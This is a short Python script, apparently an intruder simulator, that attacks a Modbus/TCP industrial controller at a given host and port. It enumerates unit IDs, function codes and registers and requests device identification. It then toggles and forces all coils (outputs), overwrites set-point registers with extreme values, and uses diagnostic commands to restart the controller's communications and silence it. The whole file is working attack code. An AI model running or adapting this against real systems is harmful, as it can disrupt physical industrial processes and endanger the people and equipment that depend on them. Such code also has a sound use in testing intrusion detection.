#!/usr/bin/python3
"""What an intruder does to a controller, on plain sockets. usage: intruder.py HOST PORT

In order: tries units, tries function codes, maps the registers, asks who the device is,
toggles outputs, rewrites set points, restarts communications and silences the device.
"""
import socket
import struct
import sys

TIMEOUT_S = 1.0


class Device:
    def __init__(self, host, port):
        self.socket = socket.create_connection((host, port), TIMEOUT_S)
        self.transaction = 0

    def ask(self, pdu, unit=1):
        """One request; waits for an answer, which may not come."""
        self.transaction += 1
        self.socket.sendall(struct.pack(">HHHB", self.transaction, 0, len(pdu) + 1, unit) + pdu)
        try:
            self.socket.recv(300)
        except TimeoutError:
            pass


def read(function, address, count):
    return struct.pack(">BHH", function, address, count)


def scan(device):
    for unit in range(1, 13):
        device.ask(read(3, 0, 1), unit)
    for function in (9, 10, 13, 14, 18, 19, 65, 66, 67, 100, 101):
        device.ask(bytes([function, 0, 0, 0, 1]))
    for address in range(0, 65536, 2048):
        device.ask(read(3, address, 125))
    for pdu in (b"\x11", b"\x2b\x0e\x01\x00", b"\x2b\x0e\x02\x00"):
        device.ask(pdu)


def attack(device):
    for round_number in range(20):
        device.ask(struct.pack(">BHH", 5, 2, 0xff00 if round_number % 2 else 0))
    for coil in range(32):
        device.ask(struct.pack(">BHH", 5, coil, 0xff00))
    for register in range(10, 20):
        device.ask(struct.pack(">BHH", 6, register, 65000))
    device.ask(b"\x10\x00\x14\x00\x02\x04\xff\xff\xff\xff")
    for subfunction, data in ((1, 0xff00), (10, 0), (4, 0)):
        device.ask(struct.pack(">BHH", 8, subfunction, data))


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    scan(Device(host, port))
    attack(Device(host, port))


main()
